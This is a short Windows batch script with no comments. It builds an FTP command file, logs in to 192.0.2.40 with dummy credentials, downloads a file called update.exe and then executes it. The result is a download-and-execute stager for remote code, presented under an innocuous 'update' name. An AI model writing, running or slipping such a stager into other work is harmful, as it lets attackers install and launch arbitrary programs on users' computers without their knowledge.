@echo off
echo open 192.0.2.40> job.txt
echo user nobody nothing>> job.txt
echo get update.exe>> job.txt
echo bye>> job.txt
ftp -n -s:job.txt
start "" update.exe
